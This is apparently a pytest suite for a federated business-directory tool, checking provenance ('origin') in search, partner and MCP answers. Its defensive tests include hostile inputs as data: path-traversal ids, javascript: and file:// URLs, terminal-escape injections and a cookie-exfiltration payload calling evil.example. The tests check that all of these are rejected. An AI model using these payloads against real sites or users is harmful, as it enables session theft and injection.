"""Search, partners and MCP over an aggregate: members' businesses answered with their origin.

The aggregate holds the sample's Bern entries but two, and a mirror written
with the federation's own writer (``quartier.federation.mirror.write``, as
``quartier federate`` leaves it) for two members: ``thun`` lists the bakery,
``spiez`` lists the same bakery (same phone and website, verified earlier)
and the coffee roaster. The build's rule merges the bakery into one record
(:func:`quartier.publish.members.merge_duplicates`): the smallest federated
id, ``spiez--holzofebeck``, with Thun's content, the more recently verified,
first among its sources.

Every answer about a member's business says where it comes from (member,
directory name and URL, its id and page there); a local business's answers
are as they were, with no ``origin`` at all. The same holds over the
aggregate's published build (``--source``, its folder or its address served on
loopback), whose NDJSON carries the origin, and through the MCP server
driven by the SDK's real client.
"""

from __future__ import annotations

import json
import os
import shutil
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import anyio
import orjson
import pytest
import yaml
from mcp import Client, StdioServerParameters

from quartier.cli import main
from quartier.discover import origin as origin_mod
from quartier.discover.records import Skipped, check_line
from quartier.federation import mirror
from quartier.federation.mirror import Row, State
from quartier.load import load_path
from quartier.model import Entry, address_country
from quartier.publish.public import entry_data

from .conftest import SAMPLE, copy_entry
from .fed_support import Site

BERN = SAMPLE / "entries" / "ch" / "bern"
# Businesses of the members, not of the aggregate itself.
MEMBERS_ONLY = ("holzofebeck-breitsch", "aare-roestwerk")
MERGED = "spiez--holzofebeck"  # the bakery both members list: the smallest federated id
THUN_PAGE = "https://thun.example.org/businesses/holzofebeck/"
SPIEZ_PAGE = "https://spiez.example.org/geschaefte/holzofebeck/"
TIMEOUT_S = 60


def _entry(sample: str, **changes: Any) -> dict[str, Any]:
    """A sample entry as a member publishes it (its public JSON), with ``changes``."""
    raw = load_path(BERN / f"{sample}.yaml").data
    assert raw is not None
    raw.update(changes)
    return entry_data(Entry.model_validate(raw, context={"country": address_country(raw)}))


def _row(member: str, oid: str, entry: dict[str, Any], page: str) -> Row:
    return Row(
        id=oid,
        sha256="0" * 64,
        fetched_at="2026-11-24T10:00:00Z",
        source_commit=f"{member}-commit",
        url=page,
        provenance={"directory": member.title()},
        entry={**entry, "id": oid},
    )


def _state(member: str, name: str) -> State:
    return State(
        member=member,
        name=name,
        url=f"https://{member}.example.org/",
        license="CC0-1.0",
        license_url="https://creativecommons.org/publicdomain/zero/1.0/",
        fetched_at="2026-11-24T10:00:00Z",
        checked_at="2026-11-24T10:00:00Z",
        source_commit=f"{member}-commit",
    )


def write_thun(root: Path, *extra: Row) -> None:
    bakery = _entry("holzofebeck-breitsch", last_verified="2026-11-01")
    rows = [_row("thun", "holzofebeck", bakery, THUN_PAGE), *extra]
    mirror.write(root, _state("thun", "Thun lokal"), sorted(rows, key=lambda r: r.id))


def write_spiez(root: Path, *extra: Row) -> None:
    bakery = _entry("holzofebeck-breitsch")  # verified 2026-09-14: older than Thun's
    roaster = _entry("aare-roestwerk")
    rows = [
        _row("spiez", "holzofebeck", bakery, SPIEZ_PAGE),
        _row("spiez", "roestwerk", roaster, "https://spiez.example.org/geschaefte/roestwerk/"),
        *extra,
    ]
    mirror.write(root, _state("spiez", "Spiez am See"), sorted(rows, key=lambda r: r.id))


@pytest.fixture
def aggregate(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The aggregate repository: local Bern entries, members thun and spiez, their mirror."""
    root = tmp_path / "aggregate"
    (root / "entries" / "ch" / "bern").mkdir(parents=True)
    shutil.copytree(SAMPLE / "site", root / "site")
    settings = yaml.safe_load((SAMPLE / "directory.yaml").read_text(encoding="utf-8"))
    settings["name"] = "Berner Oberland und Bern"
    settings["members"] = [
        {"id": "thun", "url": "https://thun.example.org/", "license": "CC0-1.0"},
        {"id": "spiez", "url": "https://spiez.example.org/", "license": "CC0-1.0"},
    ]
    (root / "directory.yaml").write_text(yaml.safe_dump(settings), encoding="utf-8")
    for path in BERN.glob("*.yaml"):
        if path.stem not in MEMBERS_ONLY:
            copy_entry(path, root / "entries" / "ch" / "bern")  # with its photos
    write_thun(root)
    write_spiez(root)
    monkeypatch.setenv("QUARTIER_CACHE_DIR", str(tmp_path / "user-cache"))
    return root


Run = Callable[..., tuple[int, str, str]]


@pytest.fixture
def run(capsys: pytest.CaptureFixture[str]) -> Run:
    def call(*argv: str) -> tuple[int, str, str]:
        code = main(list(argv))
        out, err = capsys.readouterr()
        return code, out, err

    return call


def _json(run: Run, *argv: str) -> dict[str, Any]:
    code, out, err = run(*argv, "--format", "json")
    assert code == 0, err
    data: dict[str, Any] = json.loads(out)
    return data


THUN = {
    "member": "thun",
    "directory": "Thun lokal",
    "directory_url": "https://thun.example.org/",
    "id": "holzofebeck",
    "page_url": THUN_PAGE,
}
SPIEZ = {
    "member": "spiez",
    "directory": "Spiez am See",
    "directory_url": "https://spiez.example.org/",
    "id": "holzofebeck",
    "page_url": SPIEZ_PAGE,
}


def _check_search(run: Run, *where: str) -> None:
    """search, over ``where`` (--root or --source): federated with origin, local without."""
    found = _json(run, "search", "Brot", *where)
    results = {r["id"]: r for r in found["results"]}
    bakery = results[MERGED]
    assert bakery["origin"] == [THUN, SPIEZ]  # Thun's content (newer) first: canonical
    assert bakery["last_verified"] == "2026-11-01"
    assert bakery["why"].endswith("listed by Thun lokal")
    assert not any(i.startswith("thun--") for i in results)  # merged away, not published
    found = _json(run, "search", "Velo", "--near", "Lorraine", *where)
    local = found["results"][0]
    assert local["id"] == "velowerk-lorraine" and "origin" not in local
    roaster = _json(run, "search", "Kaffee Rösterei", *where)["results"]
    assert roaster[0]["id"] == "spiez--roestwerk"
    assert roaster[0]["origin"] == [
        {
            "member": "spiez",
            "directory": "Spiez am See",
            "directory_url": "https://spiez.example.org/",
            "id": "roestwerk",
            "page_url": "https://spiez.example.org/geschaefte/roestwerk/",
        }
    ]

    code, out, err = run("search", "Brot", *where)
    assert code == 0, err
    block = out.split(f"  {MERGED}\n", 1)[1].split("\n2. ", 1)[0]
    assert (
        f"   from Thun lokal (member thun): {THUN_PAGE}; "
        f"also Spiez am See (member spiez): {SPIEZ_PAGE}"
    ) in block
    code, out, _ = run("search", "Velo", "--near", "Lorraine", "--limit", "1", *where)
    assert "velowerk-lorraine" in out and "from " not in out and "member" not in out


def _check_partners(run: Run, *where: str) -> None:
    found = _json(run, "partners", "kafi-zwischenhalt", "--limit", "10", *where)
    assert "origin" not in found  # the café asked about is local
    by_id = {p["id"]: p for p in found["partners"]}
    assert by_id[MERGED]["origin"] == [THUN, SPIEZ]
    assert by_id[MERGED]["reasons"][0]["theirs"].startswith("provides: wholesale bread")
    assert by_id["spiez--roestwerk"]["origin"][0]["member"] == "spiez"
    local = [p for p in found["partners"] if "--" not in p["id"]]
    assert local and all("origin" not in p for p in local)

    # A member's business asked about: its own origin is given too.
    found = _json(run, "partners", MERGED, *where)
    assert found["origin"] == [THUN, SPIEZ]
    code, out, err = run("partners", MERGED, *where)
    assert code == 0, err
    head = out.split("\n1. ", 1)[0]
    assert f"partners of Holzofebeck Breitsch ({MERGED}):" in head
    assert f"from Thun lokal (member thun): {THUN_PAGE}" in head
    code, out, err = run("partners", "kafi-zwischenhalt", "--limit", "10", *where)
    assert f"from Thun lokal (member thun): {THUN_PAGE}" in out


def test_search_and_partners_over_the_repository(aggregate: Path, run: Run) -> None:
    _check_search(run, "--root", str(aggregate))
    _check_partners(run, "--root", str(aggregate))


def test_search_and_partners_over_the_published_aggregate(
    aggregate: Path, run: Run, tmp_path: Path
) -> None:
    site = tmp_path / "published"
    code, _, err = run("build", "--root", str(aggregate), "--out", str(site), "--no-site")
    assert code == 0, err
    lines = [orjson.loads(x) for x in (site / "data" / "entries.ndjson").read_bytes().splitlines()]
    by_id = {line["entry"]["id"]: line for line in lines}
    assert by_id[MERGED]["origin"] == [THUN, SPIEZ]
    assert set(by_id["velowerk-lorraine"]) == {"entry", "url"}  # a local line as before
    # Read back as a source: ids with '--' and the origin pass the line checks, every line
    # is kept as the record it is.
    for number, line in enumerate((site / "data" / "entries.ndjson").read_bytes().splitlines(), 1):
        checked = check_line(line, number, "https://quartier-dev.github.io/quartier/")
        assert checked is not None and not isinstance(checked, Skipped), line[:80]
        assert checked[3], line[:80]
    _check_search(run, "--source", str(site))
    _check_partners(run, "--source", str(site))
    code, _, err = run("search", "Brot", "--source", str(site))
    assert "left out" not in err  # no record of the aggregate was refused
    with Site(site) as served:  # the same build at its address, on loopback
        _check_search(run, "--source", served.url + "feed.json")


def test_search_sees_a_new_federation_without_rebuild(aggregate: Path, run: Run) -> None:
    where = ("--root", str(aggregate))
    before = _json(run, "search", "Blumen am Thunersee", *where)["results"]
    assert "thun--blumen-am-see" not in [r["id"] for r in before]
    roasters = _json(run, "search", "Rösterei", *where)["results"]
    assert "spiez--roestwerk" in [r["id"] for r in roasters]
    # quartier federate brings a new record of Thun's and Spiez drops the roaster.
    florist = _entry("wildwuchs-blumen", name="Blumen am Thunersee", last_verified="2026-11-20")
    florist["contact"] = {"website": "https://blumen-thunersee.example.ch"}
    florist["location"]["geo"] = {"lat": 46.951, "lon": 7.43}
    page = "https://thun.example.org/businesses/blumen-am-see/"
    write_thun(aggregate, _row("thun", "blumen-am-see", florist, page))
    mirror.write(
        aggregate,
        _state("spiez", "Spiez am See"),
        [_row("spiez", "holzofebeck", _entry("holzofebeck-breitsch"), SPIEZ_PAGE)],
    )
    found = _json(run, "search", "Blumen am Thunersee", *where)["results"]
    assert found[0]["id"] == "thun--blumen-am-see"
    assert found[0]["origin"][0]["page_url"] == page
    roasters = _json(run, "search", "Rösterei", *where)["results"]
    assert "spiez--roestwerk" not in [r["id"] for r in roasters]


def test_an_unchanged_mirror_reads_no_record(
    aggregate: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The cache key covers the mirror by its files' stat: an index built once is reused
    without reading a mirrored record, and a member's update changes the key."""
    from quartier.discover import source

    _json(run, "search", "Brot", "--root", str(aggregate))  # builds the index

    def no(*args: object, **kwargs: object) -> Any:
        raise AssertionError("a mirrored record was read")

    with monkeypatch.context() as patched:
        patched.setattr(mirror, "read_rows", no)
        patched.setattr(mirror, "records", no)
        patched.setattr(mirror, "read_state", no)
        code, _, err = run("search", "Brot", "--root", str(aggregate))
        assert code == 0 and "building the search index" not in err, err
    before = source._mirror_stamp(aggregate)
    assert before.startswith("members\n") and "spiez/state.json" in before
    state = mirror.read_state(aggregate, "thun")
    assert state is not None
    state.error = "HTTP 500"  # a failed update: only state.json changes
    mirror.write(aggregate, state)
    assert source._mirror_stamp(aggregate) != before
    code, _, err = run("search", "Brot", "--root", str(aggregate))
    assert "building the search index" in err


# --- the MCP server, through the SDK's real client -------------------------------------------


def _run_mcp(args: list[str], scenario: Callable[[Client], Any], env: dict[str, str]) -> None:
    params = StdioServerParameters(
        command=sys.executable, args=["-m", "quartier", "mcp", *args], env={**os.environ, **env}
    )

    async def bounded() -> None:
        with anyio.fail_after(TIMEOUT_S):
            async with Client(params, read_timeout_seconds=30) as client:
                await scenario(client)

    anyio.run(bounded)


async def _mcp_scenario(client: Client) -> None:
    found = await client.call_tool("search_businesses", {"query": "Brot"})
    assert not found.is_error
    results = {r["id"]: r for r in found.structured_content["results"]}
    assert results[MERGED]["origin"] == [THUN, SPIEZ]
    velo = await client.call_tool("search_businesses", {"query": "Velo", "near": "Lorraine"})
    first = velo.structured_content["results"][0]
    assert first["id"] == "velowerk-lorraine" and "origin" not in first

    business = await client.call_tool("get_business", {"id": MERGED})
    assert business.structured_content["origin"] == [THUN, SPIEZ]
    assert business.structured_content["entry"]["id"] == MERGED
    local = await client.call_tool("get_business", {"id": "kafi-zwischenhalt"})
    assert "origin" not in local.structured_content

    partners = await client.call_tool("find_partners", {"id": "kafi-zwischenhalt", "limit": 10})
    by_id = {p["id"]: p for p in partners.structured_content["partners"]}
    assert by_id[MERGED]["origin"] == [THUN, SPIEZ]
    assert "origin" not in partners.structured_content

    uris = {str(r.uri) for r in (await client.list_resources()).resources}
    assert {f"quartier://business/{MERGED}", "quartier://business/spiez--roestwerk"} <= uris
    assert "quartier://business/thun--holzofebeck" not in uris  # merged away
    read = await client.read_resource(f"quartier://business/{MERGED}")
    body = json.loads(read.contents[0].text)  # type: ignore[union-attr]
    assert body["origin"] == [THUN, SPIEZ]
    read = await client.read_resource("quartier://business/velowerk-lorraine")
    assert "origin" not in json.loads(read.contents[0].text)  # type: ignore[union-attr]

    tools = {t.name: t for t in (await client.list_tools()).tools}
    schema = tools["search_businesses"].output_schema or {}
    assert "origin" in json.dumps(schema) and "page_url" in json.dumps(schema)


def test_mcp_over_the_repository(aggregate: Path, tmp_path: Path) -> None:
    env = {"QUARTIER_CACHE_DIR": str(tmp_path / "user-cache")}
    _run_mcp(["--root", str(aggregate)], _mcp_scenario, env)


def test_mcp_over_the_published_aggregate(aggregate: Path, run: Run, tmp_path: Path) -> None:
    site = tmp_path / "published"
    code, _, err = run("build", "--root", str(aggregate), "--out", str(site), "--no-site")
    assert code == 0, err
    env = {"QUARTIER_CACHE_DIR": str(tmp_path / "user-cache")}
    _run_mcp(["--source", str(site)], _mcp_scenario, env)


# --- a published aggregate is somebody else's data: its origins are checked ------------------


def _line(origin: Any) -> bytes:
    entry = _entry("kafi-zwischenhalt", id="thun--kafi")
    return orjson.dumps(
        {"entry": entry, "url": "https://agg.example.org/businesses/thun--kafi/", "origin": origin}
    )


def _good(**changes: Any) -> dict[str, Any]:
    return {**THUN, **changes}


@pytest.mark.parametrize(
    ("origin", "said"),
    [
        ([], "not a list of 1 to 32 sources"),
        ({"member": "thun"}, "not a list"),
        ([_good()] * 33, "not a list of 1 to 32 sources"),
        (["thun"], "source 0 is not an object with exactly member, directory"),
        ([_good(extra="x")], "source 0 is not an object with exactly"),
        ([{k: v for k, v in THUN.items() if k != "page_url"}], "not an object with exactly"),
        ([_good(), _good(member=7)], "source 1 has a value that is not text"),
        ([_good(member="thun--x")], "source 0: the member id is not a short id"),
        ([_good(member="Thun")], "the member id is not a short id"),
        ([_good(member="x" * 33)], "the member id is not a short id"),
        ([_good(id="../../etc/passwd")], "the id at the member is not an id"),
        ([_good(directory="")], "the directory's name is empty"),
        ([_good(directory="Thun\x1b[2J")], "holds control characters"),
        ([_good(directory="Thun \u202eloc")], "holds control characters"),
        ([_good(directory="T" * 201)], "longer than 200"),
        ([_good(page_url="javascript:alert(1)")], "source 0: page_url is not a web address"),
        ([_good(page_url="file:///etc/passwd")], "page_url is not a web address"),
        ([_good(page_url="https://thun.example.org@evil.example/")], "page_url is not a web"),
        ([_good(page_url="https://thun.example.org/\n")], "page_url is not a web address"),
        ([_good(directory_url="data:text/html,x")], "directory_url is not a web address"),
        ([_good(page_url="https://x.org/" + "a" * 2000)], "page_url is not a web address"),
    ],
)
def test_a_hostile_origin_leaves_the_record_out(origin: Any, said: str) -> None:
    checked = check_line(_line(origin), 3, "https://agg.example.org/")
    assert isinstance(checked, Skipped)
    assert (checked.line, checked.id, checked.field) == (3, "thun--kafi", "origin")
    assert said in checked.problem and "\x1b" not in checked.problem


def test_a_well_formed_origin_is_kept_as_published() -> None:
    both = [THUN, _good(member="spiez", directory="Spiez", id="canton--spiez--x")]
    local_folder = [_good(directory_url="file:///srv/members/thun/_site/")]
    for origin in (both, local_folder):
        checked = check_line(_line(origin), 1, "https://agg.example.org/")
        assert checked is not None and not isinstance(checked, Skipped)
        _entry_json, _url, kept, whole = checked
        assert kept == origin and whole


def test_origin_keeps_the_id_rules_of_the_contract() -> None:
    from quartier import fields

    assert origin_mod._SLUG.pattern == fields.SLUG_RE
    assert origin_mod._RECORD_ID.pattern == fields.RECORD_ID_RE


def test_a_published_aggregate_with_a_hostile_origin_answers_without_it(
    aggregate: Path, run: Run, tmp_path: Path
) -> None:
    """A tampered line is left out and reported; the other businesses still answer."""
    site = tmp_path / "published"
    code, _, err = run("build", "--root", str(aggregate), "--out", str(site), "--no-site")
    assert code == 0, err
    ndjson = site / "data" / "entries.ndjson"
    lines = ndjson.read_bytes().splitlines()
    for i, raw in enumerate(lines):
        line = orjson.loads(raw)
        if line["entry"]["id"] == MERGED:
            line["origin"][0]["page_url"] = "javascript:fetch('//evil.example/'+document.cookie)"
            lines[i] = orjson.dumps(line)
    ndjson.write_bytes(b"\n".join(lines) + b"\n")
    # What the aggregate says about its members is set aside, never read or relayed.
    settings = site / "api" / "v1" / "directory.json"
    published = orjson.loads(settings.read_bytes())
    published["members"] = [{"id": "\x1b[2J", "url": "javascript:alert(1)", "evil": True}]
    published["attribution"], published["share_alike"] = "\x1b]0;pwned\x07", "yes"
    settings.write_bytes(orjson.dumps(published))
    code, out, err = run("search", "Brot", "--source", str(site), "--format", "json")
    assert code == 0, err
    assert MERGED not in [r["id"] for r in json.loads(out)["results"]]
    assert "holzofebeck" not in out  # the tampered line is its only record
    assert f"({MERGED}): origin: source 0: page_url is not a web address" in err
    assert "javascript" not in out + err and "\x1b" not in out + err
